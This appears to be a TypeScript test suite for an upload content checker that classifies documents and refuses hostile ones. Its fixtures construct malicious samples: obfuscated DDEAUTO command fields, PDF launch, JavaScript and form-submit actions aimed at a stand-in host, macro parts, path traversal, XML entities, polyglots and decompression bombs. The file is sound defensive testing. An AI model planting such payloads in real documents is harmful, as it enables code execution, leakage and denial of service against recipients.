/** Files that are no documents, or made to do harm: each is refused with what it is, and nothing of it is kept. */
import { randomBytes } from 'node:crypto'
import { deflateSync } from 'node:zlib'
import { PDFName, PDFString } from '@cantoo/pdf-lib'
import { strToU8, zipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { agreementDocx, agreementPdf } from '../testing/agreement-files.ts'
import { smallJpeg, smallOpenDocument, smallPdf, smallPng, smallPptx } from '../testing/small-documents.ts'
import { smallDocx } from '../testing/small-docx.ts'
import { smallXlsx } from '../testing/small-xlsx.ts'
import { checkContent } from './check-content.ts'
import { CheckThread } from './check-thread.ts'

const PARAGRAPH = '<w:p><w:r><w:t>Et notat</w:t></w:r></w:p>'
const RELATIONS = 'http://schemas.openxmlformats.org/package/2006/relationships'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const utf16 = (text: string) => Buffer.from(text, 'utf16le')
const OLD_OFFICE = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]
const oldOffice = (name: string) => Uint8Array.from([...OLD_OFFICE, ...utf16(name)])
/** MZ, and where the header of Windows is. */
const PROGRAM = Uint8Array.from(
  { length: 200 },
  (_, at) => ({ 0: 0x4d, 1: 0x5a, 60: 0x80, 128: 0x50, 129: 0x45 })[at] ?? 0,
)
const joined = (...parts: (Uint8Array | string)[]) =>
  new Uint8Array(Buffer.concat(parts.map((part) => Buffer.from(part))))
const docx = (more: Parameters<typeof smallDocx>[1] = {}, type?: string) => smallDocx(PARAGRAPH, more, type)
const withRelation = (kind: string, target: string) =>
  docx({
    'word/_rels/document.xml.rels': strToU8(
      `<Relationships xmlns="${RELATIONS}"><Relationship Id="r0" Type="${OFFICE}/${kind}" Target="${target}" TargetMode="External"/></Relationships>`,
    ),
  })
const withBody = (body: string) => smallDocx(body)
/** Every occurrence of these bytes replaced by as many others. */
function replaced(bytes: Uint8Array, was: string, by: string): Uint8Array {
  return new Uint8Array(Buffer.from(Buffer.from(bytes).toString('latin1').replaceAll(was, by), 'latin1'))
}
/** An action of this kind that a PDF takes when it is opened. */
const onOpening = (action: Record<string, unknown>, options = {}) =>
  smallPdf((document, catalog) => {
    catalog.set(PDFName.of('OpenAction'), document.context.register(document.context.obj(action as never)))
  }, options)

const codeOf = (bytes: Uint8Array) =>
  checkContent(bytes).then(
    (type) => type,
    (error: unknown) => (error instanceof Error && 'code' in error ? error.code : error),
  )

describe('[UPLOAD-7] a file is what its content says', () => {
  test.each<[string, () => Uint8Array | Promise<Uint8Array>]>([
    ['pdf', () => agreementPdf('Et notat\nmed æøå')],
    ['pdf', () => smallPdf()],
    ['pdf', () => smallPdf(() => {}, { useObjectStreams: true })],
    ['docx', () => agreementDocx('Et notat')],
    ['docx', () => docx()],
    ['xlsx', () => smallXlsx([{ name: 'Ark', rows: [['En', 2]] }])],
    ['pptx', () => smallPptx()],
    ['odt', () => smallOpenDocument('text')],
    ['ods', () => smallOpenDocument('spreadsheet')],
    ['png', () => smallPng()],
    ['jpeg', () => smallJpeg()],
    // As cameras put a second, smaller one behind.
    ['jpeg', () => smallJpeg({ behind: [0, 0, ...smallJpeg()] })],
    ['text', () => strToU8('Navn;Antal\nMesse;5\n')],
    ['text', () => Uint8Array.from([0xff, 0xfe, ...utf16('Et notat på dansk')])],
    ['text', () => Uint8Array.from([...strToU8('R'), 0xf8, ...strToU8('dgr'), 0xf8, ...strToU8('d')])],
    ['text', () => strToU8('MZ begynder også en tekst.')],
  ])('%s', async (type, made) => {
    expect(await codeOf(await made())).toBe(type)
  })

  test('[UPLOAD-7] a list of no macros is no macro', async () => {
    const lists = { 'Basic/script-lc.xml': strToU8('<x/>'), 'Basic/Standard/script-lb.xml': strToU8('<x/>') }
    expect(await codeOf(smallOpenDocument('text', lists))).toBe('odt')
  })

  test('[UPLOAD-7] a picture of its own, a link and a number of a page are no harm', async () => {
    const content =
      '<draw:image xlink:href="Pictures/1.png"/><text:a xlink:href="https://censec.example/">DDE</text:a>'
    expect(await codeOf(smallOpenDocument('text', { 'content.xml': strToU8(content) }))).toBe('odt')
    const drawing = strToU8('<svg><image href="data:image/png;base64,AA=="/></svg>')
    expect(await codeOf(docx({ 'word/media/image1.svg': drawing }))).toBe('docx')
    expect(await codeOf(withBody('<w:p><w:r><w:instrText>PAGE</w:instrText></w:r></w:p>'))).toBe('docx')
  })

  test('[UPLOAD-7] a chart’s own table, a link to click and a template on one’s own disk are no harm', async () => {
    expect(await codeOf(docx({ 'word/embeddings/Ark1.xlsx': smallXlsx([{ name: 'x', rows: [[1]] }]) }))).toBe(
      'docx',
    )
    expect(await codeOf(withRelation('hyperlink', 'https://censec.example/'))).toBe('docx')
    expect(await codeOf(withRelation('attachedTemplate', 'file:///C:\\Skabeloner\\Normal.dotm'))).toBe('docx')
    const linked = await smallPdf((document, catalog) => {
      const page = document.getPage(0)
      const { context } = document
      page.node.set(
        PDFName.of('Annots'),
        context.obj([
          {
            Type: 'Annot',
            Subtype: 'Link',
            Rect: [0, 0, 9, 9],
            A: { S: 'URI', URI: PDFString.of('https://censec.example/') },
          },
        ]),
      )
      catalog.set(PDFName.of('OpenAction'), context.obj([page.ref, 'Fit']))
    })
    expect(await codeOf(linked)).toBe('pdf')
  })
})

describe('[UPLOAD-8] a file is refused', () => {
  test.each<[string, string, () => Uint8Array | Promise<Uint8Array>]>([
    ['that is empty', 'document-empty', () => new Uint8Array()],
    ['of spaces alone', 'document-empty', () => strToU8(' \n\t\n')],
    ['of noise', 'document-unknown-type', () => new Uint8Array([1, ...randomBytes(4_000)])],
    ['that is a page', 'document-unknown-type', () => strToU8('<!doctype html>\n<script>alert(1)</script>')],
    ['that is a drawing with scripts', 'document-unknown-type', () => strToU8('<svg onload="alert(1)"/>')],
    ['that is rich text', 'document-unknown-type', () => strToU8('{\\rtf1 {\\object}}')],
    ['that is a zip of other things', 'document-unknown-type', () => zipSync({ 'a.txt': strToU8('a') })],
    [
      'that is a template',
      'document-unknown-type',
      () => docx({}, 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml'),
    ],
    [
      'that is a drawing of OpenDocument',
      'document-unknown-type',
      () => zipSync({ mimetype: strToU8('application/vnd.oasis.opendocument.graphics') }),
    ],
    ['that is a program for Windows, whatever it is called', 'document-program', () => PROGRAM],
    ['that is a program for Linux', 'document-program', () => joined('\x7fELF', new Uint8Array(60))],
    ['with a program in it', 'document-program', () => docx({ 'word/media/image1.png': PROGRAM })],
    ['of old Office', 'document-old-format', () => oldOffice('WordDocument')],

    ['of Office with a password', 'document-encrypted', () => oldOffice('EncryptedPackage')],
    [
      'of OpenDocument with a password',
      'document-encrypted',
      () => smallOpenDocument('text', { 'META-INF/manifest.xml': strToU8('<manifest:encryption-data/>') }),
    ],
    ['that is a PDF with a password', 'document-encrypted', () => agreementPdf('Hemmeligt', 'kodeord')],
    ['whose parts are packed with a password', 'document-encrypted', () => encryptedZip()],

    [
      'with macros by its type',
      'document-macros',
      () => docx({}, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    ],
    ['with macros hidden in it', 'document-macros', () => docx({ 'word/vbaProject.bin': strToU8('x') })],
    [
      'with macros under another name',
      'document-macros',
      () => docx({ 'word/media/image1.png': oldOffice('VBA') }),
    ],
    [
      'with an object of another program',
      'document-macros',
      () => docx({ 'word/embeddings/oleObject1.bin': oldOffice('Package') }),
    ],
    [
      'with a file in it that has macros',
      'document-macros',
      () =>
        docx({
          'word/embeddings/Ark1.xlsm': docx({}, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
        }),
    ],
    ['with controls that run', 'document-macros', () => docx({ 'word/activeX/activeX1.bin': strToU8('x') })],
    [
      'of OpenDocument with macros',
      'document-macros',
      () => smallOpenDocument('text', { 'Basic/Standard/Module1.xml': strToU8('<x/>') }),
    ],

    [
      'of OpenDocument that runs something when opened',
      'document-active',
      () =>
        smallOpenDocument('text', {
          'content.xml': strToU8('<script:event-listener script:event-name="dom:load"/>'),
        }),
    ],
    [
      'that fetches its template elsewhere',
      'document-active',
      () => withRelation('attachedTemplate', 'https://ond.example/t.dotm'),
    ],
    [
      'that fetches a picture from another machine',
      'document-active',
      () => withRelation('image', 'file://ond.example/p.png'),
    ],
    [
      'that has another program run, its words in pieces',
      'document-active',
      () =>
        withBody(
          '<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText xml:space="preserve">AUTO cmd "/c calc"</w:instrText></w:r></w:p>',
        ),
    ],
    [
      'that has another program run, as a link between sheets',
      'document-active',
      () =>
        smallXlsx([{ name: 'x', rows: [[1]] }], {
          'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
        }),
    ],
    [
      'that fetches a picture by relations in capitals',
      'document-active',
      () =>
        docx({
          'word/_rels/document.xml.RELS': strToU8(
            `<Relationships xmlns="${RELATIONS}"><Relationship Id="r0" Type="${OFFICE}/image" Target="https://ond.example/p.png" TargetMode="External"/></Relationships>`,
          ),
        }),
    ],
    ...[
      ['under another prefix', '<x:instrText>DDEAUTO cmd</x:instrText>'],
      ['with its letters in codes', '<w:instrText>D&#68;E&#x41;UTO cmd</w:instrText>'],
      ['with its letters set apart', '<w:instrText><![CDATA[DD]]><!-- x -->EAUTO cmd</w:instrText>'],
      ['in an attribute of single marks', "<w:fldSimple w:instr='DDE cmd'/>"],
    ].map(([how, body = '']): [string, string, () => Uint8Array] => [
      `that has another program run, ${how}`,
      'document-active',
      () => withBody(`<w:p xmlns:x="x">${body}</w:p>`),
    ]),
    [
      'that has another program run, in UTF-16',
      'document-active',
      () => docx({ 'word/footer1.xml': utf16('\ufeff<w:instrText>DDEAUTO cmd</w:instrText>') }),
    ],
    [
      'that has another program run, in a part that is not called one of XML',
      'document-active',
      () => docx({ 'word/footer1.dat': strToU8('<?xml version="1.0"?><w:instrText>DDE x</w:instrText>') }),
    ],
    ...[
      ['runs something under another prefix', '<x:event-listener x:event-name="dom:load"/>'],
      ['fetches a picture', '<draw:image xlink:type="simple" xlink:href="https://ond.example/p.png"/>'],
      ['fetches a chapter', "<text:section-source a='>' xlink:href='//ond.example/d.odt'/>"],
      ['has another program run', '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;)"/>'],
    ].map(([what, content = '']): [string, string, () => Uint8Array] => [
      `of OpenDocument that ${what} when opened`,
      'document-active',
      () => smallOpenDocument('text', { 'content.xml': strToU8(content) }),
    ]),
    [
      'that is a PDF with a script',
      'document-active',
      () => smallPdf((document) => document.addJavaScript('main', 'app.alert(1)')),
    ],
    [
      'that is a PDF with a script packed away',
      'document-active',
      () =>
        smallPdf((document) => document.addJavaScript('main', 'app.alert(1)'), { useObjectStreams: true }),
    ],
    [
      'that is a PDF with a script whose name is in codes',
      'document-active',
      async () =>
        replaced(
          await onOpening({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
          '/JavaScript',
          '/Java#53cript',
        ),
    ],
    [
      'that is a PDF which starts a program',
      'document-active',
      () => onOpening({ S: 'Launch', F: PDFString.of('calc.exe') }, { useObjectStreams: true }),
    ],
    [
      'that is a PDF which sends a form',
      'document-active',
      () =>
        onOpening({ S: 'SubmitForm', F: PDFString.of('https://ond.example/') }, { useObjectStreams: true }),
    ],
    [
      'that is a PDF with a file attached',
      'document-active',
      () => smallPdf((document) => document.attach(PROGRAM, 'regning.exe'), { useObjectStreams: true }),
    ],

    ['that is an archive with something before it', 'document-two-kinds', () => joined('MZ#', docx())],
    [
      'that is an archive with something behind it',
      'document-two-kinds',
      () => joined(docx(), '<script>alert(1)</script>'),
    ],
    ['that is an archive with something between its parts', 'document-two-kinds', () => withGap(docx())],
    ['whose parts are called otherwise inside', 'document-two-kinds', () => renamedInside(docx())],
    [
      'that is an archive and a PDF',
      'document-two-kinds',
      () => zipSync({ '%PDF-1.7': strToU8('x') }, { level: 0 }),
    ],
    [
      'that is a PDF with something before it',
      'document-two-kinds',
      async () => joined('#!/bin/sh\n', await smallPdf()),
    ],
    [
      'that is a PDF with something behind it',
      'document-two-kinds',
      async () => joined(await smallPdf(), 'PK and so on'),
    ],
    ['that is a PDF and an archive', 'document-two-kinds', async () => joined(await smallPdf(), docx())],
    ['that is a picture and an archive', 'document-two-kinds', () => joined(smallPng(), docx())],
    [
      'that is a picture and a page',
      'document-two-kinds',
      () => joined(smallPng(), '<script>alert(1)</script>'),
    ],
    [
      'that is a photograph and a page',
      'document-two-kinds',
      () => smallJpeg({ behind: [...strToU8('<html>')] }),
    ],
    [
      'that is a photograph and a PDF',
      'document-two-kinds',
      () => smallJpeg({ before: [0xff, 0xfe, 0, 11, ...strToU8('%PDF-1.7\n')] }),
    ],
    ['that is text and an archive', 'document-two-kinds', () => joined('Et notat\n', docx())],

    [
      'that is small and unpacks to very much',
      'document-too-much',
      () => docx({ 'word/x.xml': [new Uint8Array(20_000_000), { level: 9 }] }),
    ],
    [
      'whose parts are all small and together too much',
      'document-too-much',
      () =>
        docx(
          Object.fromEntries(
            Array.from({ length: 60 }, (_, n) => [
              `m/${n}`,
              [new Uint8Array(900_000), { level: 1 }] as [Uint8Array, { level: 1 }],
            ]),
          ),
        ),
    ],
    [
      'of very many parts',
      'document-too-much',
      () => docx(Object.fromEntries(Array.from({ length: 2_100 }, (_, n) => [`m/${n}`, new Uint8Array()]))),
    ],
    [
      'with archives in archives',
      'document-too-much',
      () => docx({ 'a.docx': docx({ 'b.docx': docx({ 'c.docx': docx() }) }) }),
    ],
    ['that is a PDF packed to harm', 'document-too-much', () => pdfBomb(1)],
    ['that is a PDF packed twice to harm', 'document-too-much', () => pdfBomb(2)],
    [
      'that is a picture of more than anybody looks at',
      'document-too-much',
      () => smallPng({ width: 100_000, height: 100_000 }),
    ],
    [
      'that is a photograph of more than anybody looks at',
      'document-too-much',
      () => smallJpeg({ width: 65_000, height: 65_000 }),
    ],

    ['whose archive is cut off', 'document-damaged', () => docx().subarray(0, 200)],
    ['whose parts lead out of it', 'document-damaged', () => docx({ '../../etc/passwd': strToU8('x') })],
    [
      'with entities',
      'document-damaged',
      () => docx({ 'word/x.xml': strToU8('<!DOCTYPE x [<!ENTITY a "ha">]><x>&a;</x>') }),
    ],
    ['that is a PDF cut off', 'document-damaged', async () => (await smallPdf()).subarray(0, 200)],
    [
      'that is a PDF of which a part cannot be read, and so not be looked at',
      'document-damaged',
      async () =>
        replaced(await smallPdf(), '\nxref', '\n99 0 obj\n<< /S /Launch /F (calc.exe) /X @ >>\nendobj\nxref'),
    ],
    ['that is a PDF of nothing', 'document-damaged', () => strToU8('%PDF-1.7\n%%EOF\n')],
    ['that is a picture cut off', 'document-damaged', () => smallPng().subarray(0, 40)],
    ['that is a picture with a changed byte', 'document-damaged', () => smallPng().with(45, 7)],
    ['that is a photograph cut off', 'document-damaged', () => smallJpeg().subarray(0, 25)],
  ])('%s: %s', async (_what, code, made) => {
    expect(await codeOf(await made())).toBe(code)
  })
})

describe('[UPLOAD-9] on a thread of its own', () => {
  test('files are told and refused alike, one after the other', async () => {
    const thread = new CheckThread()
    expect(await Promise.all([thread.read(await smallPdf()), thread.read(smallPng())])).toEqual([
      'pdf',
      'png',
    ])
    await expect(thread.read(PROGRAM)).rejects.toMatchObject({ code: 'document-program' })
  }, 30_000)

  test('a file that takes longer than it is given is refused, and the next is told', async () => {
    const hasty = new CheckThread({ timeLimitMs: 1 })
    await expect(hasty.read(smallPng())).rejects.toMatchObject({ code: 'document-too-much' })
    const nested = `${'<w:p>'.repeat(30_000)}${'</w:p>'.repeat(30_000)}`
    const thread = new CheckThread()
    const rels = strToU8(`<Relationships>${nested}</Relationships>`)
    await expect(thread.read(docx({ 'word/_rels/document.xml.rels': rels }))).rejects.toMatchObject({
      code: 'document-damaged',
    })
    expect(await thread.read(smallPng())).toBe('png')
  }, 30_000)

  test('of many at once no more wait than are somebody’s work', async () => {
    const thread = new CheckThread({ mostWaiting: 2 })
    const asked = await Promise.allSettled([1, 2, 3].map(() => thread.read(smallPng())))
    expect(asked.map(({ status }) => status)).toEqual(['fulfilled', 'fulfilled', 'rejected'])
  }, 30_000)
})

/** The mark of a part that is encrypted, in both places where it stands. */
function encryptedZip(): Uint8Array {
  const bytes = docx()
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength)
  for (let at = 0; at < bytes.length - 4; at++) {
    if (view.getUint32(at, true) === 0x04034b50) view.setUint16(at + 6, 1, true)
    if (view.getUint32(at, true) === 0x02014b50) view.setUint16(at + 8, 1, true)
  }
  return bytes
}

/** Some bytes before the directory, which is found all the same. */
function withGap(bytes: Uint8Array): Uint8Array {
  const end = bytes.length - 22
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength)
  const directory = view.getUint32(end + 16, true)
  view.setUint32(end + 16, directory + 5, true)
  return joined(bytes.subarray(0, directory), 'skjul', bytes.subarray(directory))
}

/** Who reads the archive from its beginning sees another name than who reads its directory. */
function renamedInside(bytes: Uint8Array): Uint8Array {
  const copy = bytes.slice()
  copy[30 + 1] = 'X'.charCodeAt(0)
  return copy
}

/** A page whose content unpacks to more than it may, packed as often as this. */
function pdfBomb(times: number): Promise<Uint8Array> {
  return smallPdf((document) => {
    let content: Uint8Array = new Uint8Array(201 * 1024 * 1024)
    for (let n = 0; n < times; n++) content = deflateSync(content, { level: 1 })
    const Filter = times === 1 ? 'FlateDecode' : Array.from({ length: times }, () => 'FlateDecode')
    document.context.register(document.context.stream(content, { Filter }))
  })
}
